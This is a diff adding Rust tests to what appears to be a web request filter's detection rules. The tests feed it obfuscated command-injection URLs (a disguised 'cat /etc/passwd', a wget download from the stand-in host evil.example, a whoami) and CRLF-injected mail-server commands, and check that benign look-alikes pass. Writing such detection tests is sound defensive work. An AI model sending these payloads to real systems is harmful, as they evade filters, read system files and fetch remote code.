@@ -90,3 +90,35 @@ fn java_hidden_in_base64_and_dotted_names_are_found() {
     assert_eq!(post_rule(FORM, "file=aGVsbG8gd29ybGQsIHRoaXMgaXMgYW4gdXBsb2Fk"), None);
     assert_eq!(rule_for("/?q=java.evil.runtimes"), None);
 }
+
+#[test]
+fn shell_commands_with_no_op_insertions_are_found() {
+    for target in [
+        "/?host=example.com;c%24%40at+%2Fet%24%40c%2Fpas%24%40swd",
+        "/?host=example.com;w''get+http://evil.example/x",
+        "/?host=example.com;wh%5Coami",
+    ] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+    for benign in [
+        "/?q=he+said+%22%22hello%22%22+and+left",
+        "/?price=%24%40+per+item",
+        "/?path=C%3A%5CUsers%5Cann%5CDocuments",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn mail_commands_after_a_line_break_are_found() {
+    for target in [
+        "/?to=a%0d%0aRCPT%20TO%3A%3Cvictim%40example.com%3E",
+        "/?s=x%0d%0aa001%20EXAMINE%20INBOX",
+        "/?s=x%0d%0aRETR%201",
+    ] {
+        assert_eq!(rule_for(target), Some("rce-mail-command"), "{target}");
+    }
+    // A textarea's lines that read like commands but are not.
+    assert_eq!(post_rule(FORM, "text=Top+10%0D%0AData+is+everything%0D%0AList+3+things"), None);
+    assert_eq!(post_rule(FORM, "text=Hi%0D%0AMail+from+Ann%3A+see+below"), None);
+}
